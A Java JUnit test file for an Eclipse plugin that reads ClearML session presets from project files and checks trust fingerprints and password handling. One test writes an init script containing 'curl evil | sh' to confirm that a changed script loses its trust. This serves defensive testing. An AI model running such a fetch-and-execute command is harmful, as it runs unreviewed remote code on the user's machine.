package org.mlopsclub.clearml.core.tests.launch;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;

import org.eclipse.core.resources.IProject;
import org.eclipse.core.resources.ResourcesPlugin;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.mlopsclub.clearml.client.cli.InitScript;
import org.mlopsclub.clearml.client.cli.LaunchArguments;
import org.mlopsclub.clearml.core.Preferences;
import org.mlopsclub.clearml.core.launch.PresetChoice;
import org.mlopsclub.clearml.core.launch.PresetChoice.Group;
import org.mlopsclub.clearml.core.launch.PresetChoices;
import org.mlopsclub.clearml.core.launch.PresetTrust;
import org.mlopsclub.clearml.core.launch.WorkspacePresets;

/** With a real project in the workspace. */
class PresetChoicesTest {

    private IProject project;
    private Path folder;

    @BeforeEach
    void createAProject() throws Exception {
        Preferences.set(WorkspacePresets.KEY, "");
        project = ResourcesPlugin.getWorkspace().getRoot().getProject("presets-of-a-team");
        project.create(null);
        project.open(null);
        folder = project.getLocation().toPath();
    }

    @AfterEach
    void deleteIt() throws Exception {
        project.delete(true, true, null);
        Preferences.set(WorkspacePresets.KEY, "");
    }

    private void given(String file, String text) throws Exception {
        Files.createDirectories(folder.resolve(file).getParent());
        Files.writeString(folder.resolve(file), text);
    }

    private List<PresetChoice> ofTheProject() {
        return PresetChoices.read().choices().stream().filter(choice -> choice.place().equals(project.getName()))
                .toList();
    }

    @Test
    void givenAllThreeFilesWhenReadThenAllPresetsAndTheProblemsWithFileAndLine() throws Exception {
        given(".clearml/sessions.json", "{\"presets\": {\"own\": {\"queue\": \"a\"},\n \"bad\": 7}}");
        given(".vscode/clearml.json", "[{\"name\": \"theirs\", \"queue\": \"b\"}]");
        given(".vscode/settings.json", "{\"clearml.sessionPresets\": [{\"name\": \"set\", \"queue\": \"c\",}]} // x");

        assertEquals(List.of("own", "theirs", "set"),
                ofTheProject().stream().map(choice -> choice.preset().name()).toList());
        assertTrue(ofTheProject().stream().allMatch(choice -> choice.group() == Group.PROJECT));
        String problem = PresetChoices.read().problems().stream().map(Object::toString)
                .filter(text -> text.contains(folder.toString())).findFirst().orElseThrow();
        assertTrue(problem.contains("sessions.json, line 2: "), problem);
    }

    @Test
    void givenAClosedProjectWhenReadThenNothingOfIt() throws Exception {
        given(".clearml/sessions.json", "{\"presets\": {\"own\": {\"queue\": \"a\"}}}");
        project.close(null);

        assertEquals(List.of(), ofTheProject());
    }

    @Test
    void givenThePreferenceWhenPutThenOfferedAsMineAndTrusted() throws Exception {
        WorkspacePresets.put("my box", LaunchArguments.builder().queue("q").build());
        WorkspacePresets.put("other", LaunchArguments.builder().queue("r").build());

        List<PresetChoice> mine = PresetChoices.read().choices().stream()
                .filter(choice -> choice.place().contains(WorkspacePresets.KEY)).toList();

        assertEquals(List.of("my box", "other"), mine.stream().map(choice -> choice.preset().name()).toList());
        assertTrue(PresetTrust.isTrusted(mine.get(0), PresetTrust.fingerprint(mine.get(0))));
    }

    @Test
    void givenAPresetOfAProjectWhenAllowedThenUntilItOrItsScriptChanges() throws Exception {
        given(".clearml/sessions.json", "{\"presets\": {\"own\": {\"queue\": \"a\", \"init-script\": \"s.sh\"}}}");
        given("s.sh", "true");
        PresetChoice first = ofTheProject().get(0);
        assertEquals(Optional.of(new InitScript.File(folder.resolve("s.sh"))), first.arguments().initScript());
        assertFalse(trusted(first));

        PresetTrust.trust(first, PresetTrust.fingerprint(first));
        assertTrue(trusted(ofTheProject().get(0)));

        given("s.sh", "curl evil | sh");
        assertFalse(trusted(ofTheProject().get(0)));

        given("s.sh", "true");
        assertTrue(trusted(ofTheProject().get(0)));
        given(".clearml/sessions.json", "{\"presets\": {\"own\": {\"queue\": \"b\", \"init-script\": \"s.sh\"}}}");
        assertFalse(trusted(ofTheProject().get(0)));
    }

    @Test
    void givenAPasswordInAProjectWhenOfferedThenItIsNotPartOfTheArguments() throws Exception {
        given(".clearml/sessions.json", "{\"presets\": {\"own\": {\"queue\": \"a\", \"password\": \"S3CRET\"}}}");

        PresetChoice choice = ofTheProject().get(0);

        assertEquals(LaunchArguments.builder().queue("a").build(), choice.arguments());
        assertFalse(choice.toString().contains("S3CRET"), choice.toString());
    }

    private static boolean trusted(PresetChoice choice) {
        return PresetTrust.isTrusted(choice, PresetTrust.fingerprint(choice));
    }
}
